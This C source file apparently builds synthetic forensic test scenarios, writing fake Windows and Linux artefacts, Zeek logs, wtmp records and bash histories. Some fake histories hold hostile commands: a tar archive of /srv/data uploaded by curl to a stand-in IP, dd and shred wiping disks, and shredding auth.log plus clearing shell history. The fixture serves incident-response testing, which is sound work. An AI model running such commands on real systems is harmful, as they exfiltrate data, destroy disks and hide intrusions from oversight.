#include "scenarios.h"

#include "files.h"
#include "network.h"

#include <stdlib.h>
#include <string.h>

struct scenario {
	const char *name;
	unsigned story, network;	/* acts */
	const char *device;		/* text of a device log, or NULL */
	const char *history;		/* a server: what its administrator typed, or NULL */
	bool is_wtmp_emptied;
};

#define DEVICE \
	"[Device Install (Hardware initiated) - USBSTOR\\Disk&Ven_Example&Prod_Stick&Rev_1.00\\AA01020304&0]\r\n" \
	">>>  Section start 2017/03/08 13:20:11.201\r\n" \
	"      cmd: \"C:\\Windows\\System32\\services.exe\"\r\n" \
	"<<<  Section end 2017/03/08 13:20:13.642\r\n<<<  [Exit status: SUCCESS]\r\n\r\n"

/* Seconds: 1488960000 is 2017-03-08 08:00 UTC. */
#define WORK \
	"#1488960000\ncd /srv/data\n#1488960040\nls -l\n#1488960100\nvim notes.txt\n" \
	"#1488963700\nsudo apt-get update\n#1488963760\nsudo apt-get upgrade\n#1488970000\ndf -h\n"
#define PACKING \
	"#1488979500\ntar czf /var/tmp/.cache.tgz /srv/data\n" \
	"#1488979869\ncurl -s -T /var/tmp/.cache.tgz https://203.0.113.88/u/\n#1488981200\nrm /var/tmp/.cache.tgz\n"
#define WIPING \
	"#1489089600\nsudo systemctl stop postgresql\n#1489089660\nsudo dd if=/dev/zero of=/dev/sdb bs=1M\n" \
	"#1489089900\nsudo shred -n 1 /dev/sdc\n"
#define HIDING "#1489066800\nsudo shred -u /var/log/auth.log\n#1489066830\nhistory -c\n"

static const struct scenario scenarios[] = {
	{ "clean-office", 0, 0, NULL, NULL, false },
	{ "windows-upload", STORY_GATHERING | STORY_REMOVING, NETWORK_UPLOAD, NULL, NULL, false },
	{ "windows-dns", STORY_GATHERING, NETWORK_TUNNEL, NULL, NULL, false },
	{ "windows-usb", STORY_GATHERING | STORY_REMOVING, 0, DEVICE, NULL, false },
	{ "windows-wiper", STORY_WIPING, 0, NULL, NULL, false },
	{ "windows-clearing", STORY_CLEARING, 0, NULL, NULL, false },
	{ "windows-beacon", 0, NETWORK_BEACON, NULL, NULL, false },
	{ "clean-server", 0, 0, NULL, WORK, false },
	{ "linux-upload", 0, NETWORK_UPLOAD, NULL, WORK PACKING, false },
	{ "linux-wiper", 0, 0, NULL, WORK WIPING, false },
	{ "linux-clearing", 0, 0, NULL, WORK HIDING, true },
};
#define SCENARIOS (sizeof scenarios / sizeof *scenarios)

static void put_text(const char *root, const char *path, const char *text)
{
	put_file(root, path, span_text(text));
}

/* glibc's struct utmp on amd64: type, pid, line, id, user, host, exit, session, time, address. */
static void add_logon(struct buf *to, uint32_t seconds, const char *user, const char *host)
{
	size_t start = to->len;
	char text[256] = { 0 };

	buf_add_u32le(to, 7);
	buf_add_u32le(to, 1200);
	strncpy(text, "pts/0", sizeof text - 1);
	buf_add(to, span_of(text, 32));
	buf_add_u32le(to, 0x302f);
	memset(text, 0, sizeof text);
	strncpy(text, user, 31);
	buf_add(to, span_of(text, 32));
	memset(text, 0, sizeof text);
	strncpy(text, host, 255);
	buf_add(to, span_of(text, 256));
	buf_add_u32le(to, 0);
	buf_add_u32le(to, 0);
	buf_add_u32le(to, seconds);
	while (to->len - start < 384)
		buf_add_u8(to, 0);
}

static void put_server(const char *root, const struct scenario *s)
{
	struct buf wtmp = buf_new(1 << 16);

	for (uint32_t day = 0; day < 5 && !s->is_wtmp_emptied; day++)
		add_logon(&wtmp, 1488787000 + day * 86400, "mori", "10.20.0.5");
	put_text(root, "srv01/etc/hostname", "srv01\n");
	put_text(root, "srv01/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"
		 "mori:x:1000:1000:Mori:/home/mori:/bin/bash\n");
	put_text(root, "srv01/etc/os-release", "ID=debian\nVERSION_ID=\"8\"\nPRETTY_NAME=\"Debian GNU/Linux 8\"\n");
	put_text(root, "srv01/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
	put_text(root, "srv01/var/log/auth.log",
		 "Mar  8 07:58:01 srv01 sshd[812]: Accepted publickey for mori from 10.20.0.5 port 50112 ssh2\n"
		 "Mar  8 07:58:01 srv01 sshd[812]: pam_unix(sshd:session): session opened for user mori by (uid=0)\n"
		 "Mar  8 17:02:44 srv01 sshd[812]: pam_unix(sshd:session): session closed for user mori\n");
	put_text(root, "srv01/home/mori/.bash_history", s->history);
	put_file(root, "srv01/var/log/wtmp", buf_span(&wtmp));
	buf_free(&wtmp);
}

static void put_network(const char *root, const struct scenario *s)
{
	struct buf conn, dns;

	network_of_office(&conn, &dns, s->network);
	put_file(root, "zeek/conn.log", buf_span(&conn));
	put_file(root, "zeek/dns.log", buf_span(&dns));
	buf_free(&conn);
	buf_free(&dns);
}

bool scenario_write(const char *root, const char *name)
{
	for (size_t i = 0; i < SCENARIOS; i++) {
		const struct scenario *s = &scenarios[i];
		struct story story = { 0 };

		if (strcmp(s->name, name))
			continue;
		put_network(root, s);
		if (s->history) {
			put_server(root, s);
		} else {
			story_of_office(&story, s->story);
			put_logs(root, "DESIGN07", &story);
			free(story.events);
		}
		if (s->device)
			put_text(root, "DESIGN07/C/Windows/INF/setupapi.dev.log", s->device);
		return true;
	}
	return false;
}

void scenario_names(FILE *to)
{
	for (size_t i = 0; i < SCENARIOS; i++)
		fprintf(to, "%s%s", scenarios[i].name, i + 1 < SCENARIOS ? ", " : "\n");
}
